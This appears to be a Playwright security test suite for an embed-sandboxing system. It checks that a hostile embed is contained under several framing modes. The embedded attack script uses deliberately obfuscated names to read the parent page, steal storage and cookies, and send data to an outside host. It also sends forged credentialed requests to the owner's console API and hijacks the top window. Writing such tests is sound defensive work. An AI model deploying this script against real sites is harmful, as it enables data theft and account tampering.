/*
 * An embed that attacks whoever is around it: the page that it stands on, its visitors, the embeds beside it,
 * and the console of its owner, who is signed in in another tab of the same browser.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect } from 'chai';
import type { Browser, BrowserContext } from 'playwright-core';
import { declareSite, password, startTestOrbis, type TestOrbis } from '../support/orbis.ts';
import { publishedWith, type Published } from '../support/published.ts';
import { launchBrowser, patience } from '../support/visitors.ts';

/* What it tries is hidden from whoever reads it: names are written backwards. */
const attack = (elsewhere: string, console: string): string => `<p>A pleasant embed</p>
<script>
(async () => {
  const told = (text) => [...text].reverse().join('');
  const tried = {};
  const attempt = async (what, work) => {
    try { tried[what] = await work(); } catch (error) { tried[what] = 'refused'; }
  };
  await attempt('page', () => self[told('tnerap')][told('tnemucod')].body.innerText.slice(0, 9));
  await attempt('cookies', () => { document[told('eikooc')] = 'evil=1'; document[told('eikooc')] = 'evil=2; Domain=frames.localhost; Secure; SameSite=None'; return document[told('eikooc')]; });
  await attempt('storage', () => self[told('egarotSlacol')].getItem('secret'));
  await attempt('window', () => self[told('nepo')]('about:blank') === null ? 'refused' : 'opened');
  await attempt('worker', async () => { await navigator[told('rekroWecivres')].register('/evil.js'); return 'there'; });
  await attempt('phone', async () => { await self[told('hctef')](told('${[...elsewhere].reverse().join('')}'), { mode: 'no-cors' }); return 'sent'; });
  const api = told('${[...`${console}/api/v1/sites`].reverse().join('')}');
  await attempt('reads', async () => (await self[told('hctef')](api, { credentials: 'include' })).status);
  await attempt('writes', async () => { await self[told('hctef')](api, { method: 'POST', mode: 'no-cors', credentials: 'include', body: JSON.stringify({ key: 'evil', name: 'Evil', address: 'http://evil.localhost' }) }); return 'sent'; });
  const framed = document.createElement(told('emarfi'));
  framed.src = told('${[...`${console}/`].reverse().join('')}');
  document.body.append(framed);
  await attempt('history', () => { history.pushState(null, '', '#evil'); return 'changed'; });
  for (let i = 0; i < 50000; i++) parent.postMessage({ orbis: i % 2 ? 1e9 : -1 }, '*');
  for (const height of [false, 'high', NaN, '1e9px', null]) parent.postMessage({ orbis: height }, '*');
  try { self[told('pot')].location = told('${[...elsewhere].reverse().join('')}') + '?top'; } catch {}
  self.tried = tried;
})();
</script>`;

/* Shows what it finds in its own storage, and in its cookies. */
const victim =
  '<p>Beside it</p><script>localStorage.setItem("secret", "mine"); document.cookie = "own=1"; self.sees = () => document.cookie;</script>';

describe('attack: an embed in a frame', () => {
  let test: TestOrbis;
  let work: Published;
  let browser: Browser;
  let context: BrowserContext;
  let elsewhere: Server;
  let phoned: string[] = [];
  /* The file that its owner has put onto a server of theirs. */
  let file = '';
  before(async () => {
    test = await startTestOrbis({ env: { ORBIS_ALLOW_PRIVATE: 'yes' } });
    await declareSite(test, ['one', 'two']);
    work = publishedWith(test);
    elsewhere = createServer(({ url = '' }, response) => {
      if (url === '/evil.html') return void response.setHeader('Content-Type', 'text/html').end(file);
      phoned.push(url);
      response.end('<p>Elsewhere');
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    browser = await launchBrowser();
    context = await browser.newContext();
    context.setDefaultTimeout(patience);
    const owner = await context.newPage();
    await owner.goto(`${test.url}/api/v1/session`);
    const status = await owner.evaluate(
      `fetch('/api/v1/session', { method: 'POST', headers: { 'content-type': 'application/json' }, body: ${JSON.stringify(JSON.stringify({ password }))} }).then(({ status }) => status)`,
    );
    expect(status).to.be.below(300);
    expect((await owner.goto(`${test.url}/api/v1/sites`))!.status()).to.equal(200);
    const address = `http://elsewhere.localhost:${(elsewhere.address() as AddressInfo).port}/phone`;
    await work.collect('Evil', attack(address, test.url));
    await work.collect('Victim', victim);
  });
  after(async () => {
    elsewhere.closeAllConnections();
    elsewhere.close();
    await browser.close();
    await test.stop();
  });

  afterEach(() => work.endAll());

  const contacts = ['hollinfell.localhost'];
  for (const [way, options] of [
    ['enclosed', { frame: 'enclosed' }],
    ['enclosed, with its contacts fixed', { frame: 'enclosed', contacts }],
    ['served', { frame: 'served' }],
    ['served, and may keep data', { 'frame': 'served', 'may-keep-data': true }],
    ['in a file', { frame: 'file' }],
    ['in a file, with its contacts fixed', { frame: 'file', contacts }],
  ] as [string, Record<string, unknown>][])
    it(`${way}: reaches nothing of the page, of others, and of the console`, async () => {
      phoned = [];
      await context.clearCookies({ name: 'evil' });
      const { port } = elsewhere.address() as AddressInfo;
      const isFile = options['frame'] === 'file';
      const all = isFile ? { ...options, 'frame-file': `http://files.localhost:${port}/evil.html` } : options;
      const evil = await work.place('evil', 'one', all);
      const { data } = await test.client.call('compositions.create', {
        body: { placement: evil, options: all as never },
      });
      file = data.frame.document ?? '';
      const beside = await work.place('victim', 'two', { frame: 'served' });
      await work.publish((await work.delivered(evil)).text, (await work.delivered(beside)).text);
      const page = await context.newPage();
      // Browsers keep the pages of the site for a while.
      const address = `${work.site}/talks?${encodeURIComponent(way)}`;
      await page.goto(address);
      const [first, second] = page.frames().filter((frame) => frame.parentFrame() === page.mainFrame());
      await first!.waitForFunction('self.tried');
      const tried = await first!.evaluate<Record<string, unknown>>('self.tried');
      const isServed = options['frame'] === 'served';
      const isKept = isServed || 'contacts' in options;
      const keeps = 'may-keep-data' in options;
      expect(tried).to.deep.include({
        page: 'refused',
        storage: keeps ? null : 'refused',
        window: 'refused',
        worker: 'refused',
        // Who may be contacted is said by the policy of what is served, and where its owner has fixed it.
        phone: isKept ? 'refused' : 'sent',
        reads: 'refused',
      });
      await page.waitForTimeout(500);
      expect(phoned).to.deep.equal(isKept ? [] : ['/phone']);
      expect(page.url()).to.equal(address);
      expect((await test.client.call('sites.list')).data.items.map(({ key }) => key)).to.deep.equal([
        'hollinfell',
      ]);
      // The console refuses to be framed.
      for (const frame of first!.childFrames()) expect(frame.url()).to.not.include('orbis.localhost');
      const heights = await page.evaluate(
        'Array.from(document.querySelectorAll("iframe[data-orbis]"), (frame) => frame.offsetHeight)',
      );
      expect((heights as number[])[0]).to.be.at.most(10_000);
      expect((heights as number[])[1]).to.be.within(15, 120);

      // What remains, and is stated: a cookie for all of the frames’ hosts is seen by others that may keep
      // data.
      expect(await second!.evaluate('self.sees()')).to.equal(keeps ? 'evil=2' : '');
      await page.close();
    });

  it('in the page itself it reads all of it: that is stated', async () => {
    phoned = [];
    await work.publish((await work.delivered(await work.place('evil', 'one'))).text);
    const page = await context.newPage();
    await page.goto(`${work.site}/talks?bare`).catch(() => undefined);
    await page.waitForURL(/elsewhere/);
    expect(phoned).to.include('/phone').and.include('/phone?top');
    await page.close();
  });
});
